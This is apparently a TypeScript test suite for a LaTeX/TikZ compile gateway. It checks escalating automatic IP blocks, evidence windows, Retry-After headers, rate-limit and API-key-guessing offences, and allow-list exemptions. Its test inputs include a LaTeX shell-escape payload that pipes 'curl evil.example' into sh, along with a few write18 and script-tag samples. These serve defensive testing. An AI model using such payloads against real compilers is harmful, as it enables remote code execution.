// Automatic blocks through real requests, on a fake clock: an unmistakable attack (confidence: attack, e.g.
// \write18) blocks the client at once for 5 min, then 1 h, then 24 h; after the offence memory expires it
// starts again at 5 min. A positive-model refusal or a web rule on a caption is not an offence alone: only
// repeated evidence within the window is. The block's 403 says how long (Retry-After, Portcullis-Block-Expires).
// Repeated 429s count as an offence, and so do guessed API keys (fast, or slow within the window); loopback and allow-listed clients are never blocked automatically.
import { afterEach, describe, expect, it } from 'vitest';
import { request } from 'undici';
import { FakeClock } from '../../../src/core/clock.js';
import type { Decisions } from '../../../src/reputation/decisions.js';
import { baseConfig, COMPILE_ROUTE, startTestGateway, type TestGateway } from '../../helpers/gateway.js';
import { startUpstream, type TestUpstream } from '../../helpers/upstream.js';

const MIN = 60_000;
const HOUR = 60 * MIN;
const DAY = 24 * HOUR;
const ATTACK = JSON.stringify({ tikz_code: '\\immediate\\write18{curl evil.example | sh}' });
const BENIGN = JSON.stringify({ tikz_code: '\\draw (0,0) -- (1,1);' });
/** A legitimate package the allow-list does not know: a policy refusal, not an attack. */
const UNKNOWN_PACKAGE = JSON.stringify({ tikz_code: '\\usepackage{tikz-nosuchpackage}\\draw (0,0);' });
/** A web rule (CRITICAL, confidence high) on a caption field. */
const CAPTION = JSON.stringify({ tikz_code: '\\draw (0,0);', caption: 'how <script> tags work' });

let up: TestUpstream | null = null;
let t: TestGateway | null = null;
afterEach(async () => {
  await t?.close();
  await up?.close();
  t = up = null;
});

async function start(extra: string, clock: FakeClock) {
  up = await startUpstream();
  // post() reads the reason codes from the refusal body: the client is told them whatever the shipped default
  const yaml = `${COMPILE_ROUTE}refusals:\n  disclose: codes\n${extra}`;
  t = await startTestGateway(baseConfig(up.url, yaml, '  trusted_proxies: [127.0.0.1/32]'), { clock });
  return t;
}

async function post(gw: TestGateway, body: string, client?: string) {
  const res = await request(`${gw.url}/compile`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...(client ? { 'x-forwarded-for': client } : {}) },
    body,
  });
  const text = await res.body.text();
  return { status: res.statusCode, reasons: res.statusCode === 200 ? [] : (JSON.parse(text).reasons as string[]) };
}

async function postWithHeaders(gw: TestGateway, body: string, client: string) {
  const res = await request(`${gw.url}/compile`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-forwarded-for': client },
    body,
  });
  const text = await res.body.text();
  const json = res.statusCode === 200 ? {} : (JSON.parse(text) as Record<string, unknown>);
  return { status: res.statusCode, headers: res.headers, body: json };
}

/** Lets the log phase's store writes land (the memory store answers in the same tick). */
const settle = () => new Promise((r) => setTimeout(r, 30));

/** The automatic block is written in the log phase, after the answer: wait for it to land. */
async function blocked(gw: TestGateway, client: string): Promise<number> {
  for (let i = 0; i < 100; i++) {
    const d = gw.gw.resources.get<Decisions>('decisions', () => {
      throw new Error('decisions not built');
    });
    const hit = d.findIp(client);
    if (hit !== null) return hit.expires - hit.created;
    await new Promise((r) => setTimeout(r, 10));
  }
  return 0;
}

describe('automatic blocks', () => {
  it('escalate 5 min, 1 h, 24 h over three offences, and start again after the memory expires', async () => {
    const clock = new FakeClock(1_800_000_000_000);
    const gw = await start('decisions:\n  escalation: { steps_s: [300, 3600, 86400], remember_s: 172800 }\n', clock);
    const ip = '203.0.113.66';
    expect(await post(gw, BENIGN, ip)).toEqual({ status: 200, reasons: [] });

    const first = await post(gw, ATTACK, ip);
    expect(first.status).toBe(403);
    expect(first.reasons).toContain('sig:latex.shell-escape.write18');
    expect(await blocked(gw, ip)).toBe(5 * MIN);
    expect(await post(gw, BENIGN, ip)).toEqual({ status: 403, reasons: ['block:rule'] });
    expect(await post(gw, BENIGN, '203.0.113.67')).toEqual({ status: 200, reasons: [] });
    clock.advance(5 * MIN);
    expect(await post(gw, BENIGN, ip)).toEqual({ status: 200, reasons: [] });

    expect((await post(gw, ATTACK, ip)).status).toBe(403);
    expect(await blocked(gw, ip)).toBe(HOUR);
    clock.advance(HOUR - 1_000);
    expect((await post(gw, BENIGN, ip)).reasons).toEqual(['block:rule']);
    clock.advance(1_000);

    expect((await post(gw, ATTACK, ip)).status).toBe(403);
    expect(await blocked(gw, ip)).toBe(DAY);
    clock.advance(DAY);
    expect(await post(gw, BENIGN, ip)).toEqual({ status: 200, reasons: [] });

    // two days after the last offence it is forgotten: the next one is a first offence again
    clock.advance(2 * DAY);
    expect((await post(gw, ATTACK, ip)).status).toBe(403);
    expect(await blocked(gw, ip)).toBe(5 * MIN);
  });

  it('one policy refusal is not an offence; repeated ones within the window are', async () => {
    const clock = new FakeClock(1_800_000_000_000);
    const gw = await start('', clock);
    const ip = '198.51.100.71';
    const first = await post(gw, UNKNOWN_PACKAGE, ip);
    expect(first).toEqual({ status: 403, reasons: ['sig:policy.package-not-allowed'] });
    await settle();
    expect(await post(gw, BENIGN, ip)).toEqual({ status: 200, reasons: [] });
    // default evidence: threshold 12, policy weight 1, window 600 s; the first refusal is the 1st piece
    for (let i = 2; i <= 11; i++) expect((await post(gw, UNKNOWN_PACKAGE, ip)).status).toBe(403);
    await settle();
    expect(await post(gw, BENIGN, ip)).toEqual({ status: 200, reasons: [] });
    expect((await post(gw, UNKNOWN_PACKAGE, ip)).status).toBe(403); // the 12th
    expect(await blocked(gw, ip)).toBe(5 * MIN);
    expect(await post(gw, BENIGN, ip)).toEqual({ status: 403, reasons: ['block:rule'] });
  });

  it('evidence older than the window is forgotten (window counted from its first piece)', async () => {
    const clock = new FakeClock(1_800_000_000_000);
    const gw = await start(
      'decisions:\n  auto: { evidence: { threshold: 3, window_s: 60, weights: { policy: 1 } } }\n',
      clock,
    );
    const ip = '198.51.100.72';
    await post(gw, UNKNOWN_PACKAGE, ip);
    await post(gw, UNKNOWN_PACKAGE, ip);
    await settle();
    clock.advance(61_000);
    await post(gw, UNKNOWN_PACKAGE, ip); // a new window: 1 of 3
    await settle();
    expect(await post(gw, BENIGN, ip)).toEqual({ status: 200, reasons: [] });
    await post(gw, UNKNOWN_PACKAGE, ip);
    await post(gw, UNKNOWN_PACKAGE, ip);
    expect(await blocked(gw, ip)).toBe(5 * MIN);
  });

  it('a web rule on a caption is not an offence alone; three are (weight high 4 of 12)', async () => {
    const clock = new FakeClock(1_800_000_000_000);
    const gw = await start('', clock);
    const ip = '198.51.100.73';
    const r = await post(gw, CAPTION, ip);
    expect(r.status).toBe(403);
    expect(r.reasons).toContain('sig:web.xss.script-tag');
    await post(gw, CAPTION, ip);
    await settle();
    expect(await post(gw, BENIGN, ip)).toEqual({ status: 200, reasons: [] });
    await post(gw, CAPTION, ip);
    expect(await blocked(gw, ip)).toBe(5 * MIN);
  });

  it('a refusal holding an attack rule blocks at once, whatever else matched', async () => {
    const clock = new FakeClock(1_800_000_000_000);
    const gw = await start('', clock);
    const ip = '198.51.100.74';
    const body = JSON.stringify({ tikz_code: '\\usepackage{tikz-nosuchpackage}\\immediate\\write18{id}' });
    expect((await post(gw, body, ip)).status).toBe(403);
    expect(await blocked(gw, ip)).toBe(5 * MIN);
  });

  it('a decoy rule matched before the attack does not hide it (attack rules run first)', async () => {
    const clock = new FakeClock(1_800_000_000_000);
    const gw = await start('', clock);
    const ip = '198.51.100.77';
    // a category-code change (CRITICAL, confidence high) written before the shell escape
    const body = JSON.stringify({ tikz_code: '\\catcode`\\|=0 \\immediate\\write18{id}' });
    const r = await post(gw, body, ip);
    expect(r.status).toBe(403);
    expect(r.reasons).toContain('sig:latex.shell-escape.write18');
    expect(await blocked(gw, ip)).toBe(5 * MIN);
  });

  it('the block refusal says how long: Retry-After in seconds and the expiry, read on a fake clock', async () => {
    const clock = new FakeClock(1_800_000_000_000);
    const gw = await start('', clock);
    const ip = '198.51.100.75';
    expect((await post(gw, ATTACK, ip)).status).toBe(403);
    expect(await blocked(gw, ip)).toBe(5 * MIN);
    const expires = new Date(1_800_000_000_000 + 5 * MIN).toISOString().replace('.000Z', 'Z');

    let r = await postWithHeaders(gw, BENIGN, ip);
    expect(r.status).toBe(403);
    expect(r.body.reasons).toEqual(['block:rule']);
    expect(r.headers['retry-after']).toBe('300');
    expect(r.headers['portcullis-block-expires']).toBe(expires);

    clock.advance(61_500);
    r = await postWithHeaders(gw, BENIGN, ip);
    expect(r.headers['retry-after']).toBe('239'); // 238.5 s left, rounded up: never invites a retry too early
    expect(r.headers['portcullis-block-expires']).toBe(expires);

    clock.advance(238_000);
    r = await postWithHeaders(gw, BENIGN, ip);
    expect(r.headers['retry-after']).toBe('1');
    clock.advance(500);
    expect((await postWithHeaders(gw, BENIGN, ip)).status).toBe(200);
  });

  it('a manual block carries Retry-After too', async () => {
    const clock = new FakeClock(1_800_000_000_000);
    const gw = await start('', clock);
    const d = gw.gw.resources.get<Decisions>('decisions', () => {
      throw new Error('decisions not built');
    });
    await d.add(
      {
        scope: 'ip',
        value: '198.51.100.76',
        reason: 'test',
        origin: 'manual',
        actor: 'test',
        created: clock.now(),
        expires: clock.now() + 90_000,
      },
      { action: 'add', actor: 'test' },
    );
    const r = await postWithHeaders(gw, BENIGN, '198.51.100.76');
    expect(r.status).toBe(403);
    expect(r.body.reasons).toEqual(['block:manual']);
    expect(r.headers['retry-after']).toBe('90');
  });

  it('repeated rate-limit refusals become an offence', async () => {
    const clock = new FakeClock(1_800_000_000_000);
    const gw = await start(
      `rate_limits:
  tiers:
    anonymous:
      limits:
        - { name: per_minute, algorithm: gcra, rate: 1, period_s: 60, burst: 1 }
decisions:
  auto: { rate_limit_refusals: 3, rate_limit_window_s: 60 }
`,
      clock,
    );
    const ip = '198.51.100.33';
    const seen: number[] = [];
    for (let i = 0; i < 4; i++) seen.push((await post(gw, BENIGN, ip)).status);
    expect(seen).toEqual([200, 429, 429, 429]);
    expect(await blocked(gw, ip)).toBe(5 * MIN);
    expect(await post(gw, BENIGN, ip)).toEqual({ status: 403, reasons: ['block:rule'] });
  });

  it('guessed API keys become an offence at the threshold, slow guesses within the window too', async () => {
    const clock = new FakeClock(1_800_000_000_000);
    const keys = `identity:
  api_keys:
    keys: [{ sha256: ${'ab'.repeat(32)}, user: alice, tier: authenticated }]
decisions:
  auto: { invalid_credentials: 3, invalid_credentials_window_s: 3600 }
`;
    const gw = await start(keys, clock);
    const guess = async (ip: string, key: string) => {
      const res = await request(`${gw.url}/health`, { headers: { 'x-forwarded-for': ip, 'x-api-key': key } });
      const body = JSON.parse(await res.body.text()) as { reasons: string[] };
      return { status: res.statusCode, reasons: body.reasons };
    };
    const fast = '198.51.100.44';
    expect(await guess(fast, 'k1')).toEqual({ status: 401, reasons: ['identity:invalid_api_key'] });
    expect(await guess(fast, 'k2')).toEqual({ status: 401, reasons: ['identity:invalid_api_key'] });
    await settle();
    expect(await blocked(gw, fast)).toBe(0);
    expect((await guess(fast, 'k3')).status).toBe(401);
    expect(await blocked(gw, fast)).toBe(5 * MIN);
    expect(await guess(fast, 'k4')).toEqual({ status: 403, reasons: ['block:rule'] });
    // a guess every 20 minutes adds up within the hour; one an hour apart does not
    const slow = '198.51.100.45';
    for (let i = 0; i < 3; i++) {
      if (i > 0) clock.advance(20 * MIN);
      expect((await guess(slow, `s${i}`)).status).toBe(401);
    }
    expect(await blocked(gw, slow)).toBe(5 * MIN);
    const patient = '198.51.100.46';
    for (let i = 0; i < 3; i++) {
      if (i > 0) clock.advance(61 * MIN);
      expect((await guess(patient, `p${i}`)).status).toBe(401);
    }
    await settle();
    expect(await blocked(gw, patient)).toBe(0);
  });

  it('invalid_credentials: 0 counts no guesses', async () => {
    const gw = await start(
      `identity:
  api_keys:
    keys: [{ sha256: ${'cd'.repeat(32)}, user: bob, tier: authenticated }]
decisions:
  auto: { invalid_credentials: 0 }
`,
      new FakeClock(),
    );
    const ip = '198.51.100.47';
    for (let i = 0; i < 5; i++) {
      const res = await request(`${gw.url}/health`, { headers: { 'x-forwarded-for': ip, 'x-api-key': `g${i}` } });
      await res.body.text();
      expect(res.statusCode).toBe(401);
    }
    await settle();
    expect(await blocked(gw, ip)).toBe(0);
  });

  it('never blocks loopback (exempt by default) or allow-listed clients automatically', async () => {
    const clock = new FakeClock();
    const gw = await start('reputation:\n  allow: [192.0.2.0/24]\n', clock);
    expect((await post(gw, ATTACK)).status).toBe(403); // from 127.0.0.1 itself
    expect((await post(gw, ATTACK, '192.0.2.5')).status).toBe(403);
    await new Promise((r) => setTimeout(r, 50));
    expect(await post(gw, BENIGN)).toEqual({ status: 200, reasons: [] });
    expect(await post(gw, BENIGN, '192.0.2.5')).toEqual({ status: 200, reasons: [] });
  });
});
